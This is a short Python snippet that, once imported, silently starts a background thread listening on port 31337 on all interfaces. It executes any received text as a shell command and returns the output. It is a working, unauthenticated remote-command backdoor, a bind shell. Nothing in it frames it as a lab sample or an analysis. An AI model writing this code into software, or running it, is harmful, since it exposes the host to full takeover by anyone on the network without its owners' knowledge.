import socket, subprocess, threading
def _serve():
    srv = socket.socket()
    srv.bind(("0.0.0.0", 31337))
    srv.listen(1)
    while True:
        conn, _ = srv.accept()
        cmd = conn.recv(4096).decode()
        out = subprocess.run(cmd, shell=True, capture_output=True).stdout
        conn.sendall(out)
        conn.close()
threading.Thread(target=_serve, daemon=True).start()
